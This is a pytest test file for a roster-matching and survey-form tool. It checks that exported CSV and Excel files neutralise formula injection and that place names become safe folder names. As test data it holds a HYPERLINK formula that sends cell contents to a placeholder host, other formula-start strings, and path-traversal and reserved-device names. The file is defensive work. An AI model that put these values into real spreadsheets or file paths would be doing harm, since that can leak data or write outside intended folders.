"""No formula ever leaves canbao: hostile place names and names through match, forms and intake."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from canbao.cells import (
    FORMULA_STARTS,
    neutralise_frame,
    neutralise_text,
    neutralised_value,
    restore_frame,
    restore_text,
    restored_value,
)
from canbao.cli import app
from canbao.forms import run_intake
from canbao.forms.survey import ENTRY_FILE, ROSTER_FILE, distinct_folder
from canbao.forms.survey_roster import safe_name
from canbao.text_workbook import TextWorkbook
from tests.match_helpers import pid, write_rosters

HOSTILE = ('=HYPERLINK("http://x.invalid/?"&A2,"点击")', "+1+1", "-2+3", "@SUM(A1)")
FIELDS = ("姓名", "乡镇(街道)", "村(社区)", "常住地址")
HARMLESS = {"-"}


def _hostile_household() -> list[list[str | None]]:
    """Four uninsured persons; each hostile value lands once in each of the four fields."""
    rows: list[list[str | None]] = []
    for i in range(len(HOSTILE)):
        name, town, village, address = (HOSTILE[(i + j) % len(HOSTILE)] for j in range(4))
        rows.append(
            [pid("19800101", 101 + i), name, None, "340621", town, village, address, "正常"]
        )
    return rows


def _match(folder: Path, fmt: str = "csv", more: tuple[str, ...] = ()) -> Path:
    insured = pid("19700101", 300)
    household = [
        *_hostile_household(),
        [insured, "张三", None, "340621", "城关镇", "东村", "1号", "正常"],
    ]
    args = write_rosters(folder, household, [[insured, "张三", "21", "340621", "参保缴费"]])
    out = folder / f"match_{fmt}{''.join(more)}"
    cli = ["match", "--household", str(args["household"][0]), "--pension", str(args["pension"][0])]
    cli += ["--as-of", "2017-06-30", "--format", fmt, "--output", str(out), "--quiet", *more]
    result = CliRunner().invoke(app, cli)
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """canbao match on the hostile roster, then canbao forms survey from its folder."""
    base = tmp_path_factory.mktemp("formulas")
    match = _match(base)
    forms = base / "forms"
    result = CliRunner().invoke(
        app, ["forms", "survey", "--from", str(match), "--output", str(forms), "--quiet"]
    )
    assert result.exit_code == 0, result.output
    return {"base": base, "match": match, "forms": forms}


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _is_harmless(cell: str) -> bool:
    return cell in HARMLESS or cell[1:].replace(".", "", 1).isdigit()


def _xlsx_cells(path: Path) -> list[Any]:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_match_csvs_carry_the_leading_quote(chain: dict[str, Path]) -> None:
    """Every hostile value reaches needs_survey.csv with a leading ' and no CSV cell can run."""
    cells = _csv_cells(chain["match"] / "needs_survey.csv")
    for value in HOSTILE:
        assert cells.count("'" + value) == len(FIELDS)
        assert value not in cells
    for path in chain["match"].glob("*.csv"):
        for cell in _csv_cells(path):
            assert not cell[:1] or cell[0] not in FORMULA_STARTS or _is_harmless(cell), path


@pytest.mark.parametrize("more", [("--shards", "2"), ("--county-lists",)])
def test_person_tables_written_in_parts_carry_the_leading_quote(
    tmp_path: Path, more: tuple[str, ...]
) -> None:
    """The person tables appended part by part (shards, or slices kept for the county lists)
    quote every hostile value as the one-piece tables do."""
    one = _match(tmp_path)
    parts = _match(tmp_path, more=more)
    for name in ("needs_survey.csv", "uninsured.csv", "confirmed.csv"):
        assert (parts / name).read_bytes() == (one / name).read_bytes()
    cells = _csv_cells(parts / "needs_survey.csv")
    for value in HOSTILE:
        assert cells.count("'" + value) == len(FIELDS)


def test_no_xlsx_written_holds_a_formula(chain: dict[str, Path]) -> None:
    """No cell of any workbook from match or forms survey is a formula; hostile text is quoted."""
    books = [*chain["match"].glob("*.xlsx"), *chain["forms"].rglob("*.xlsx")]
    assert len(books) > 3
    quoted: list[str] = []
    for path in books:
        for cell in _xlsx_cells(path):
            assert cell.data_type != "f", (path, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value in HOSTILE:
                assert cell.quotePrefix, (path, cell.coordinate)
                quoted.append(cell.value)
    assert set(quoted) == set(HOSTILE)


def test_forms_show_the_original_values(chain: dict[str, Path]) -> None:
    """Round trip match -> forms survey: the roster and entry sheets show each name as it was."""
    names: list[str] = []
    for path in chain["forms"].rglob(ROSTER_FILE):
        ws = load_workbook(path)["入户调查对象名册"]
        column = [c.value for c in ws[3]].index("姓名")
        names += [row[column].value for row in ws.iter_rows(min_row=4)]
    assert sorted(n for n in names if n != "张三") == sorted(HOSTILE)
    entry_values = {c.value for p in chain["forms"].rglob(ENTRY_FILE) for c in _xlsx_cells(p)}
    assert set(HOSTILE) <= entry_values
    assert not any(isinstance(v, str) and v.startswith("'") for v in entry_values)


def test_forms_folder_names_are_sanitised(chain: dict[str, Path]) -> None:
    """Folders named after hostile townships and villages start with no formula character."""
    folders = [p.relative_to(chain["forms"]) for p in chain["forms"].rglob("*") if p.is_dir()]
    assert len({f for f in folders if len(f.parts) == 3}) == len(HOSTILE) + 1  # and 张三's
    for folder in folders:
        for part in folder.parts:
            assert part[0] not in "=+-@'." and ".." not in part, folder
    index = _csv_cells(chain["forms"] / "index.csv")
    assert "'" + HOSTILE[0] in index


def test_match_xlsx_format_holds_no_formula(tmp_path: Path) -> None:
    """match --format xlsx writes hostile text as quote-prefixed strings, never formulas."""
    out = _match(tmp_path, "xlsx")
    seen = set()
    for cell in _xlsx_cells(out / "needs_survey.xlsx"):
        assert cell.data_type != "f", cell.coordinate
        if cell.value in HOSTILE:
            assert cell.quotePrefix
            seen.add(cell.value)
    assert seen == set(HOSTILE)


def test_intake_reports_a_formula_in_a_filled_sheet(chain: dict[str, Path], tmp_path: Path) -> None:
    """A formula typed into an entry sheet is a problem of its own, read as text, not evaluated."""
    sheet = next(chain["forms"].rglob(ENTRY_FILE))
    book = load_workbook(sheet)
    ws = book["信息录入表"]
    headings = [c.value for c in ws[3]]
    phone = headings.index("手机") + 1
    ws.cell(row=4, column=phone, value="=1+1")
    assert ws.cell(row=4, column=phone).data_type == "f"
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    result = run_intake([filled], output=tmp_path / "out", as_of=date(2017, 6, 30))
    hits = result.problems.filter(pl.col("原因代码") == "formula")
    assert hits.select("行号", "项目", "值").rows() == [(4, "手机", "=1+1")]
    assert "'=1+1" in _csv_cells(tmp_path / "out" / "problems.csv")


def test_intake_reports_a_formula_in_a_csv_sheet(chain: dict[str, Path], tmp_path: Path) -> None:
    """A CSV entry sheet value beginning with = is reported as a formula problem."""
    sheet = next(chain["forms"].rglob(ENTRY_FILE))
    ws = load_workbook(sheet)["信息录入表"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=3, max_row=4)]
    rows[1][rows[0].index("工作单位名称")] = '=HYPERLINK("http://x.invalid","x")'
    path = tmp_path / "entry.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = run_intake([path], output=tmp_path / "out", as_of=date(2017, 6, 30))
    hits = result.problems.filter(pl.col("原因代码") == "formula")
    assert hits.select("项目").to_series().to_list() == ["工作单位名称"]


def test_text_workbook_keeps_write_as_text(tmp_path: Path) -> None:
    """TextWorkbook.write stores formula-like text as a string with its format's quote twin."""
    path = tmp_path / "t.xlsx"
    with TextWorkbook(path) as book:
        bold = book.add_format({"bold": True})
        ws = book.add_worksheet("s")
        ws.write(0, 0, HOSTILE[0], bold)
        ws.write(1, 0, "plain", bold)
        ws.write(2, 0, "@SUM(A1)")
    ws2 = load_workbook(path)["s"]
    assert (ws2["A1"].value, ws2["A1"].data_type, ws2["A1"].quotePrefix) == (HOSTILE[0], "s", True)
    assert ws2["A1"].font.b and not ws2["A2"].quotePrefix
    assert ws2["A3"].quotePrefix and ws2["A3"].data_type == "s"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("..", "_"),
        ("../etc", "etc"),
        ("=HYPERLINK(1)", "HYPERLINK(1)"),
        ("+-@x", "x"),
        ("a/b\\c", "a_b_c"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("东\x00关\t村", "东_关_村"),
        ("村" * 100, "村" * 60),
    ],
)
def test_safe_name(raw: str, safe: str) -> None:
    """A place name becomes a folder name with no separator, control, formula start or device."""
    assert safe_name(raw) == safe


def test_places_with_the_same_safe_name_get_two_folders() -> None:
    """Two villages whose safe names agree (=A and A) are written to two folders, not one."""
    used: set[Path] = set()
    assert [distinct_folder(Path("x", safe_name(v)), used) for v in ("=A", "A", "@A")] == [
        Path("x/A"),
        Path("x/A_2"),
        Path("x/A_3"),
    ]


TEXT = st.text(
    alphabet=st.sampled_from([*FORMULA_STARTS, "'", "0", "9", ".", "a", "村", " ", "\n"]),
    max_size=8,
)


@given(values=st.lists(st.one_of(st.none(), TEXT), min_size=1, max_size=20))
def test_neutralise_then_restore_is_identity(values: list[str | None]) -> None:
    """Restore undoes neutralise on any text; neutralised text never begins like a formula."""
    frame = pl.DataFrame(
        {"t": values, "n": list(range(len(values)))}, schema={"t": pl.String, "n": pl.Int64}
    )
    out = neutralise_frame(frame)
    assert_frame_equal(restore_frame(out), frame)
    for before, after in zip(values, out["t"].to_list(), strict=True):
        if before is None:
            continue
        assert after == neutralised_value(before) and restored_value(after) == before
        assert not after[:1] or after[0] not in FORMULA_STARTS or _is_harmless(after)
    lazy = frame.lazy().select(neutralise_text(pl.col("t")), restore_text(pl.col("t")).alias("r"))
    assert lazy.collect().columns == ["t", "r"]
